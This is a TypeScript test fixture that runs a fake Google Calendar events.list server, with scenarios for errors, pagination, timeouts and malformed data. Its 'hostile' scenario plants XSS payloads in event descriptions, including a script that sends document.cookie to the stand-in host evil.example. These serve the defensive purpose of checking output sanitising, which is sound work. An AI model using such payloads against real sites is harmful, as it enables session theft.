// A fake Google Calendar API v3 (events.list only) over real HTTP on 127.0.0.1, port 0, so a
// separately started server reaches it through GOOGLE_CALENDAR_API_URL. Answers in Google's
// shapes: the calendar#events list wrapper, calendar#event resources (every field, see
// google-events.ts), and Google's error JSON; pretty-printed unless prettyPrint=false, cut to
// `fields` (partial-response.ts), `maxResults` a page (250 by default, 2,500 at most).
import type { IncomingHttpHeaders, IncomingMessage, ServerResponse } from "node:http";
import { suiteClock } from "../support/clock";
import { DEFAULT_CALENDAR_ID, eventResource, zonedDateTime, type GoogleEventResource, type GoogleEventTime } from "./google-events";
import { writeOversized } from "./oversized-body";
import { applyFields, FieldsError, parseFields } from "./partial-response";
import { startLoopbackServer } from "./loopback-server";

export { generateGoogleEvents, type GoogleEventResource } from "./google-events";

export type GoogleScenario =
  | "normal"
  | "paginated" // pages of 2, 1, 0 (each with nextPageToken), then the rest
  | "empty"
  | "error500"
  | "rateLimit403"
  | "slow" // answers normally after `slowMs`
  | "malformed" // 200 with truncated JSON
  | "notFound"
  | "hostile" // descriptions with <script>, onerror and javascript: links
  | "quota403" // 403 usageLimits quotaExceeded ("Calendar usage limits exceeded")
  | "hang" // accepts the request and never answers
  | "resetMidBody" // 200 headers and half of a normal list, then the connection drops
  | "oversized" // a normal list padded past 6 MB, streamed without Content-Length
  | "oversizedAfterFirstPage" // the first page of each part as usual, every later page padded past 6 MB
  | "busy" // the normal events plus five daily series: 3,000 more events in the window
  | "oddItems"; // the normal events plus one with start.dateTime "not-a-real-date", one without a start, and two items Google's schema would never send

export type RecordedRequest = { method: string; path: string; query: URLSearchParams; headers: IncomingHttpHeaders };

type EventTime = GoogleEventTime;

/** The ids the site lists from the normal scenario: the events inside its window, oldest first, none cancelled. */
export const LISTED_EVENT_IDS = [
  "past300",
  "past200allday",
  "past30",
  "weeklycoffee_20260101T133000Z",
  "next7",
  "retreat",
  "member90",
  "future200",
];

export type FakeGoogleCalendar = {
  /** The API base, as GOOGLE_CALENDAR_API_URL. */
  url: string;
  calendarId: string;
  apiKey: string;
  /** The server's variables that make this fake its calendar (and no .ics feed). */
  env: { GOOGLE_CALENDAR_ID: string; GOOGLE_API_KEY: string; GOOGLE_CALENDAR_API_URL: string; CALENDAR_ICS_URL: string };
  requests: RecordedRequest[];
  /** Requests that were not an events.list call for our calendar (a test should expect none). */
  unhandled: RecordedRequest[];
  requestCount: () => number;
  /** How long each "hang" request was held before the client gave up, in ms. */
  hangs: number[];
  setScenario: (scenario: GoogleScenario) => void;
  /**
   * Holds every answer (whatever the scenario) until the returned function is called: a calendar as
   * slow as the test needs it to be, and no slower, whatever the machine's speed.
   */
  hold: () => () => void;
  /**
   * The calendar the fake serves in place of its built-in events (until reset): a list, or one
   * made for the fake's `now` (a calendar that changes with the clock). Scenarios still apply.
   */
  setEvents: (events: Calendar | undefined) => void;
  /** The events the fake holds (before filtering), for assertions. */
  events: () => GoogleEventResource[];
  reset: () => void;
  close: () => Promise<void>;
};

/** What setEvents takes: events, or events for a given `now` (ms). */
export type Calendar = readonly unknown[] | ((now: number) => readonly unknown[]);

/** Google's default indentation of a pretty-printed answer. */
const PRETTY_INDENT = 2;

const DAY = 86_400_000;

function googleError(code: number, message: string, reason: string, domain = "global", extra: Record<string, unknown> = {}) {
  return { error: { code, message, errors: [{ message, domain, reason }], ...extra } };
}

const ERRORS = {
  badKey: googleError(400, "API key not valid. Please pass a valid API key.", "badRequest", "global", {
    status: "INVALID_ARGUMENT",
    details: [
      {
        "@type": "type.googleapis.com/google.rpc.ErrorInfo",
        reason: "API_KEY_INVALID",
        domain: "googleapis.com",
        metadata: { service: "calendar-json.googleapis.com" },
      },
    ],
  }),
  noKey: googleError(
    403,
    "Method doesn't allow unregistered callers (callers without established identity). Please use API Key or other form of API consumer identity to call this API.",
    "forbidden",
    "global",
    { status: "PERMISSION_DENIED" },
  ),
  rateLimit: googleError(403, "Rate Limit Exceeded", "rateLimitExceeded", "usageLimits"),
  quota: googleError(403, "Calendar usage limits exceeded.", "quotaExceeded", "usageLimits"),
  backend: googleError(500, "Backend Error", "backendError"),
  notFound: googleError(404, "Not Found", "notFound"),
  badOrdering: googleError(400, "The requested ordering is not available for the particular query.", "badRequest"),
  badTime: googleError(400, "Bad Request", "badRequest"),
  invalid: (parameter: string, message: string) => ({
    error: {
      code: 400,
      message,
      errors: [{ message, domain: "global", reason: "invalidParameter", location: parameter, locationType: "parameter" }],
    },
  }),
};

const isoDate = (ms: number) => new Date(ms).toISOString().slice(0, 10);

function resource(
  calendarId: string,
  id: string,
  fields: Partial<GoogleEventResource> & { start: EventTime; end: EventTime },
): GoogleEventResource {
  return eventResource(calendarId, { ...fields, id });
}

/** Events around `now`: some far outside the window, timed and all-day, a recurring instance, a cancelled one. */
function makeEvents(calendarId: string, now: number, hostile: boolean): GoogleEventResource[] {
  const at = (days: number, hourUtc = 23) => Math.floor((now + days * DAY) / DAY) * DAY + hourUtc * 3_600_000;
  const timed = (id: string, days: number, summary: string, extra: Partial<GoogleEventResource> = {}) =>
    resource(calendarId, id, {
      summary,
      start: { dateTime: zonedDateTime(at(days)), timeZone: "America/New_York" },
      end: { dateTime: zonedDateTime(at(days) + 2 * 3_600_000), timeZone: "America/New_York" },
      ...extra,
    });
  const allDay = (id: string, days: number, length: number, summary: string) =>
    resource(calendarId, id, { summary, start: { date: isoDate(at(days, 12)) }, end: { date: isoDate(at(days + length, 12)) } });

  const events = [
    timed("farpast400", -400, "Too old to be in the window"),
    timed("past300", -300, "Speaker Series: Hiring your first ten", {
      description: "Talk and Q&amp;A.<br>Drinks after.",
      location: "2 W 44th St, New York, NY",
    }),
    allDay("past200allday", -200, 1, "Founders Demo Day"),
    timed("past30", -30, "Member Core Group Dinner", { description: "<b>Members only.</b><ul><li>Dinner</li><li>Hot seat</li></ul>" }),
    timed("cancelledpast", -20, "Cancelled social", { status: "cancelled" }),
    timed("weeklycoffee_20260101T133000Z", -7, "Founder Coffee", {
      recurringEventId: "weeklycoffee",
      originalStartTime: { dateTime: zonedDateTime(at(-7)), timeZone: "America/New_York" },
    }),
    timed("next7", 7, "Speaker Series: Pricing", { description: 'RSVP at <a href="https://example.org/rsvp">example.org</a>' }),
    allDay("retreat", 40, 3, "Founders Retreat"),
    timed("cancelledfuture", 45, "Cancelled workshop", { status: "cancelled" }),
    timed("member90", 90, "Members Breakfast"),
    timed("future200", 200, "Annual Gala"),
    timed("farfuture400", 400, "Too far ahead to be in the window"),
  ];
  if (hostile) {
    events.push(
      timed("hostile1", 10, "Hostile script", { description: 'Hello<script>fetch("https://evil.example/?c="+document.cookie)</script>' }),
      timed("hostile2", 11, "Hostile onerror", { description: '<img src=x onerror="alert(1)">Image' }),
      timed("hostile3", 12, "Hostile link", {
        description: '<a href="javascript:alert(1)">Click me</a> <iframe src="https://evil.example"></iframe>',
      }),
      // Google leaves `summary` out of an event saved without a title.
      resource(calendarId, "untitled", {
        start: { date: isoDate(at(13, 12)) },
        end: { date: isoDate(at(14, 12)) },
        location: "https://meet.example.org/founders",
      }),
    );
  }
  return events;
}

/** Five daily series ("a few daily series"), 300 days back and 300 ahead: 3,000 instances. */
function busyEvents(calendarId: string, now: number): GoogleEventResource[] {
  const events: GoogleEventResource[] = [];
  const today = Math.floor(now / DAY) * DAY;
  for (let series = 0; series < 5; series++) {
    for (let day = -300; day < 300; day++) {
      const start = today + day * DAY + (13 + series) * 3_600_000;
      const id = `daily${series}_${new Date(start).toISOString().replace(/[-:]|\.\d+/g, "")}`;
      events.push(
        resource(calendarId, id, {
          summary: `Daily standup ${series + 1}`,
          start: { dateTime: zonedDateTime(start), timeZone: "America/New_York" },
          end: { dateTime: zonedDateTime(start + 1_800_000), timeZone: "America/New_York" },
          recurringEventId: `daily${series}`,
          originalStartTime: { dateTime: zonedDateTime(start), timeZone: "America/New_York" },
        }),
      );
    }
  }
  return events;
}

/** What a calendar fed by other tools can hold: a date nobody can read, one with no start, and items without an id or with a numeric start. */
function oddItems(calendarId: string, now: number): unknown[] {
  const at = Math.floor((now + 14 * DAY) / DAY) * DAY + 23 * 3_600_000;
  return [
    resource(calendarId, "unparseable", {
      summary: "Founders dinner (date to be confirmed)",
      start: { dateTime: "not-a-real-date", timeZone: "America/New_York" },
      end: { dateTime: "not-a-real-date", timeZone: "America/New_York" },
    }),
    { kind: "calendar#event", id: "undated", status: "confirmed", summary: "Founders picnic (date to come)" },
    { kind: "calendar#event", summary: "No id at all", start: { dateTime: zonedDateTime(at) }, end: { dateTime: zonedDateTime(at) } },
    { kind: "calendar#event", id: "startisanumber", summary: "Start is a number", start: 1_700_000_000, end: { date: "2026-01-01" } },
  ];
}

/** An item's instant; NaN for a date nobody can read (such items match every range, as a list keeps them). */
function instant(time: unknown): number {
  if (!time || typeof time !== "object") return Number.NaN;
  const t = time as { dateTime?: string; date?: string };
  return t.dateTime ? Date.parse(t.dateTime) : t.date ? Date.parse(`${t.date}T00:00:00Z`) : Number.NaN;
}
const field = (item: unknown, name: "start" | "end") => (item as Record<string, unknown>)[name];

/** A calendar's items with their start and end instants, ordered by start (as orderBy=startTime). */
type Prepared = { item: unknown; start: number; end: number }[];
const preparedCache = new WeakMap<readonly unknown[], Prepared>();
function prepare(items: readonly unknown[]): Prepared {
  const cached = preparedCache.get(items);
  if (cached) return cached;
  const prepared = items
    .map((item) => ({ item, start: instant(field(item, "start")), end: instant(field(item, "end")) }))
    .sort((a, b) => (a.start || Infinity) - (b.start || Infinity));
  preparedCache.set(items, prepared);
  return prepared;
}

/** A page token: the page's number, where it starts, and the `now` of the list's first page (a list is one snapshot). */
const encodeToken = (page: number, offset: number, at: number) => Buffer.from(`${page}:${offset}:${at}`).toString("base64url");
function decodeToken(token: string): { page: number; offset: number; at: number } | undefined {
  const [page, offset, at] = Buffer.from(token, "base64url").toString().split(":").map(Number);
  if (![page, offset, at].every((n) => Number.isInteger(n) && n! >= 0)) return undefined;
  return { page: page!, offset: offset!, at: at! };
}

export async function startFakeGoogleCalendar(
  options: {
    calendarId?: string;
    apiKey?: string;
    /** Now for the calendar it makes: the run's clock (tests/support/clock.ts), which the servers it feeds run at, unless given. */
    now?: () => number;
    slowMs?: number;
  } = {},
): Promise<FakeGoogleCalendar> {
  const calendarId = options.calendarId ?? DEFAULT_CALENDAR_ID;
  const apiKey = options.apiKey ?? "AIzaFAKE-test-key-5f3c9b21";
  const now = options.now ?? (() => suiteClock().now());
  const slowMs = options.slowMs ?? 6_000;
  let scenario: GoogleScenario = "normal";
  let calendar: Calendar | undefined;
  // A calendar made for a `now` is made once for it: a list's later pages ask for the same `now`.
  const made = new Map<number, readonly unknown[]>();
  const requests: RecordedRequest[] = [];
  const unhandled: RecordedRequest[] = [];
  const hangs: number[] = [];
  let held: Promise<void> | undefined;
  const listPath = `/calendar/v3/calendars/${encodeURIComponent(calendarId)}/events`;

  const send = (res: ServerResponse, status: number, body: unknown, pretty = true) => {
    if (res.destroyed) return;
    res.writeHead(status, { "content-type": "application/json; charset=UTF-8", vary: "Origin, X-Origin, Referer" });
    res.end(typeof body === "string" ? body : pretty ? `${JSON.stringify(body, null, PRETTY_INDENT)}\n` : JSON.stringify(body));
  };

  const itemsAt = (at: number): readonly unknown[] => {
    if (scenario === "empty") return [];
    let base: readonly unknown[];
    if (typeof calendar === "function") {
      base = made.get(at) ?? calendar(at);
      made.set(at, base);
      if (made.size > 8) made.delete(made.keys().next().value!);
    } else base = calendar ?? makeEvents(calendarId, at, scenario === "hostile");
    if (scenario === "busy") return [...base, ...busyEvents(calendarId, at)];
    if (scenario === "oddItems") return [...base, ...oddItems(calendarId, at)];
    return base;
  };

  const list = (query: URLSearchParams, res: ServerResponse) => {
    const pretty = query.get("prettyPrint") !== "false";
    const fail = (status: number, body: unknown) => send(res, status, body, pretty);
    const key = query.get("key");
    if (!key) return fail(403, ERRORS.noKey);
    if (key !== apiKey) return fail(400, ERRORS.badKey);
    if (scenario === "notFound") return fail(404, ERRORS.notFound);
    if (scenario === "error500") return fail(500, ERRORS.backend);
    if (scenario === "rateLimit403") return fail(403, ERRORS.rateLimit);
    if (scenario === "quota403") return fail(403, ERRORS.quota);
    if (scenario === "malformed") return send(res, 200, '{"kind":"calendar#events","items":[{"id":"abc","summ');
    if (query.get("orderBy") === "startTime" && query.get("singleEvents") !== "true") return fail(400, ERRORS.badOrdering);
    const timeMin = query.get("timeMin");
    const timeMax = query.get("timeMax");
    const rfc3339 = /^\d{4}-\d{2}-\d{2}T\d{2}:\d{2}:\d{2}(\.\d+)?(Z|[+-]\d{2}:\d{2})$/;
    if ((timeMin && !rfc3339.test(timeMin)) || (timeMax && !rfc3339.test(timeMax))) return fail(400, ERRORS.badTime);
    const givenMax = query.get("maxResults");
    if (givenMax !== null && !/^[1-9]\d*$/.test(givenMax))
      return fail(
        400,
        ERRORS.invalid("maxResults", `Invalid value '${givenMax}'. Values must match the following regular expression: '[0-9]+'`),
      );
    // Google's default page is 250 events; it never sends more than 2,500 whatever is asked.
    const maxResults = Math.min(Number(givenMax ?? 250), 2500);
    let selection: ReturnType<typeof parseFields> | undefined;
    try {
      const fields = query.get("fields");
      if (fields !== null) selection = parseFields(fields);
    } catch (error) {
      if (error instanceof FieldsError) return fail(400, ERRORS.invalid("fields", error.message));
      throw error;
    }
    const token = query.get("pageToken");
    const position = token ? decodeToken(token) : { page: 0, offset: 0, at: now() };
    if (!position) return fail(400, ERRORS.invalid("pageToken", "Invalid page token value."));

    // timeMin bounds an event's end (exclusive), timeMax its start (exclusive).
    const min = timeMin ? Date.parse(timeMin) : Number.NEGATIVE_INFINITY;
    const max = timeMax ? Date.parse(timeMax) : Number.POSITIVE_INFINITY;
    const matching = prepare(itemsAt(position.at)).filter((e) => !(e.end <= min) && !(e.start >= max));

    const { page, offset, at } = position;
    const size = scenario === "paginated" ? Math.min(maxResults, [2, 1, 0][page] ?? maxResults) : maxResults;
    const items = matching.slice(offset, offset + size).map((e) => e.item);
    const next = offset + size < matching.length ? encodeToken(page + 1, offset + size, at) : undefined;
    const whole = {
      kind: "calendar#events",
      etag: `"${at * 1000}"`,
      summary: "Founders Circle",
      description: "Public events of the community",
      updated: new Date(at).toISOString(),
      timeZone: "America/New_York",
      accessRole: "reader",
      defaultReminders: [],
      ...(next ? { nextPageToken: next } : {}),
      items,
    };
    const answer = selection ? applyFields(whole, selection) : whole;
    if (scenario === "resetMidBody") {
      const text = JSON.stringify(answer);
      res.writeHead(200, { "content-type": "application/json; charset=UTF-8", "content-length": String(Buffer.byteLength(text)) });
      res.write(text.slice(0, text.length >> 1), () => setTimeout(() => res.socket?.destroy(), 20));
      return;
    }
    if (scenario === "oversized" || (scenario === "oversizedAfterFirstPage" && page > 0)) {
      const text = JSON.stringify({ ...(answer as object), padding: "" });
      return writeOversized(res, "application/json; charset=UTF-8", text.slice(0, -2), '"}');
    }
    send(res, 200, answer, pretty);
  };

  const handle = (req: IncomingMessage, res: ServerResponse) => {
    const url = new URL(req.url ?? "/", "http://fake");
    const recorded = { method: req.method ?? "GET", path: url.pathname, query: url.searchParams, headers: req.headers };
    if (req.method !== "GET" || !url.pathname.startsWith("/calendar/v3/calendars/")) {
      unhandled.push(recorded);
      return send(res, 404, ERRORS.notFound);
    }
    requests.push(recorded);
    if (held) return void held.then(() => answer(url, res));
    answer(url, res);
  };

  const answer = (url: URL, res: ServerResponse) => {
    if (url.pathname !== listPath) return send(res, 404, ERRORS.notFound);
    if (scenario === "hang") {
      const started = Date.now();
      res.on("close", () => hangs.push(Date.now() - started));
      return;
    }
    if (scenario === "slow") {
      const timer = setTimeout(() => list(url.searchParams, res), slowMs);
      res.on("close", () => clearTimeout(timer));
      return;
    }
    list(url.searchParams, res);
  };

  const server = await startLoopbackServer(handle);
  const url = `${server.origin}/calendar/v3`;
  return {
    url,
    calendarId,
    apiKey,
    env: { GOOGLE_CALENDAR_ID: calendarId, GOOGLE_API_KEY: apiKey, GOOGLE_CALENDAR_API_URL: url, CALENDAR_ICS_URL: "" },
    requests,
    unhandled,
    requestCount: () => requests.length,
    hangs,
    setScenario: (next) => void (scenario = next),
    hold: () => {
      let release = () => {};
      held = new Promise<void>((resolve) => (release = resolve)).then(() => void (held = undefined));
      return release;
    },
    setEvents: (next) => {
      calendar = next;
      made.clear();
    },
    events: () => [...itemsAt(now())] as GoogleEventResource[],
    reset: () => {
      requests.length = 0;
      unhandled.length = 0;
      hangs.length = 0;
      scenario = "normal";
      calendar = undefined;
      made.clear();
    },
    close: server.close,
  };
}
